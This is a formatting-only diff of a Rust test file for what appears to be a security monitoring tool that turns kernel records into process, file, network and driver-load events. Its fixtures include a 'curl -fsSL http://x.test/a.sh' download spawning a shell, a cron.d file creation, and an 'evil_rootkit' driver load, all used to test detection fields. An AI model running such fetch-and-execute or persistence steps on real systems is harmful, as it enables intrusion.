@@ -124,7 +124,10 @@ fn an_exec_takes_its_parent_from_the_table_and_becomes_a_parent() {
             (b"curl", 0),
             (b"curl\0-fsSL\0http://x.test/a.sh\0", 0),
             (&cwd, STR_COMPONENTS),
-            (b"docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope", 0),
+            (
+                b"docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope",
+                0,
+            ),
         ],
     );
     assert_eq!(type_name(&s, &ev), "process_start");
@@ -133,10 +136,19 @@ fn an_exec_takes_its_parent_from_the_table_and_becomes_a_parent() {
         text(&s, &ev, "command_line").as_deref(),
         Some("curl -fsSL http://x.test/a.sh")
     );
-    assert_eq!(text(&s, &ev, "current_directory").as_deref(), Some("/home/alice"));
+    assert_eq!(
+        text(&s, &ev, "current_directory").as_deref(),
+        Some("/home/alice")
+    );
     assert_eq!(text(&s, &ev, "user").as_deref(), Some("alice"));
-    assert_eq!(text(&s, &ev, "parent_image").as_deref(), Some("/usr/bin/bash"));
-    assert_eq!(text(&s, &ev, "parent_command_line").as_deref(), Some("bash -i"));
+    assert_eq!(
+        text(&s, &ev, "parent_image").as_deref(),
+        Some("/usr/bin/bash")
+    );
+    assert_eq!(
+        text(&s, &ev, "parent_command_line").as_deref(),
+        Some("bash -i")
+    );
     assert_eq!(text(&s, &ev, "parent_user").as_deref(), Some("alice"));
     assert_eq!(
         text(&s, &ev, "container_id").as_deref(),
@@ -154,9 +166,18 @@ fn an_exec_takes_its_parent_from_the_table_and_becomes_a_parent() {
         &mut b,
         1,
         &header(300, 200),
-        &[(&sh, STR_COMPONENTS), (b"/bin/sh", 0), (b"sh", 0), (&cwd, STR_COMPONENTS), (b"", 0)],
+        &[
+            (&sh, STR_COMPONENTS),
+            (b"/bin/sh", 0),
+            (b"sh", 0),
+            (&cwd, STR_COMPONENTS),
+            (b"", 0),
+        ],
     );
-    assert_eq!(text(&s, &ev, "parent_image").as_deref(), Some("/usr/bin/curl"));
+    assert_eq!(
+        text(&s, &ev, "parent_image").as_deref(),
+        Some("/usr/bin/curl")
+    );
     assert_eq!(text(&s, &ev, "container_id"), None);
 }
 
@@ -184,11 +205,19 @@ fn what_a_record_could_not_carry_is_flagged_and_counted() {
     assert!(truncated(&s, &ev, "args"));
     assert_eq!(text(&s, &ev, "parent_image"), None);
     let f = b.flagged();
-    assert_eq!((f.argv_truncated, f.unreadable, f.parent_unknown), (1, 1, 1));
+    assert_eq!(
+        (f.argv_truncated, f.unreadable, f.parent_unknown),
+        (1, 1, 1)
+    );
 
     // A path deeper than the walk: flagged on the event.
     let deep = walked("/a/b/c");
-    let ev = build(&mut b, 5, &header(100, 1), &[(&deep, STR_COMPONENTS | STR_TRUNCATED)]);
+    let ev = build(
+        &mut b,
+        5,
+        &header(100, 1),
+        &[(&deep, STR_COMPONENTS | STR_TRUNCATED)],
+    );
     assert!(truncated(&s, &ev, "target_filename"));
     assert_eq!(b.flagged().path_truncated, 1);
 
@@ -209,7 +238,10 @@ fn files_network_exits_and_modules_become_their_event_types() {
     h.a = FMODE_CREATED | 2;
     let ev = build(&mut b, 5, &h, &[(&path, STR_COMPONENTS)]);
     assert_eq!(type_name(&s, &ev), "file_create");
-    assert_eq!(text(&s, &ev, "target_filename").as_deref(), Some("/etc/cron.d/job"));
+    assert_eq!(
+        text(&s, &ev, "target_filename").as_deref(),
+        Some("/etc/cron.d/job")
+    );
     assert_eq!(text(&s, &ev, "image").as_deref(), Some("/usr/bin/bash"));
     h.a = 2;
     let ev = build(&mut b, 5, &h, &[(&path, STR_COMPONENTS)]);
@@ -230,7 +262,10 @@ fn files_network_exits_and_modules_become_their_event_types() {
         &[(b"/tmp/a", 0), (b"", 0), (b"b", 0), (&base, STR_COMPONENTS)],
     );
     assert_eq!(text(&s, &ev, "source_filename").as_deref(), Some("/tmp/a"));
-    assert_eq!(text(&s, &ev, "target_filename").as_deref(), Some("/home/alice/b"));
+    assert_eq!(
+        text(&s, &ev, "target_filename").as_deref(),
+        Some("/home/alice/b")
+    );
 
     // An IPv6 UDP connect and an IPv4 TCP accept.
     let mut h6 = header(100, 1);
@@ -270,7 +305,10 @@ fn files_network_exits_and_modules_become_their_event_types() {
 
     let ev = build(&mut b, 8, &header(100, 1), &[(b"evil_rootkit", 0)]);
     assert_eq!(type_name(&s, &ev), "driver_load");
-    assert_eq!(text(&s, &ev, "image_loaded").as_deref(), Some("evil_rootkit"));
+    assert_eq!(
+        text(&s, &ev, "image_loaded").as_deref(),
+        Some("evil_rootkit")
+    );
     assert_eq!(text(&s, &ev, "image").as_deref(), Some("/usr/bin/bash"));
 }
 
@@ -296,7 +334,13 @@ fields = [
         &mut b,
         1,
         &header(500, 100),
-        &[(&image, STR_COMPONENTS), (b"id", 0), (b"id", 0), (b"", STR_UNREADABLE), (b"", 0)],
+        &[
+            (&image, STR_COMPONENTS),
+            (b"id", 0),
+            (b"id", 0),
+            (b"", STR_UNREADABLE),
+            (b"", 0),
+        ],
     );
     assert_eq!(text(&narrow, &ev, "image").as_deref(), Some("/usr/bin/id"));
     let path = walked("/tmp/x");
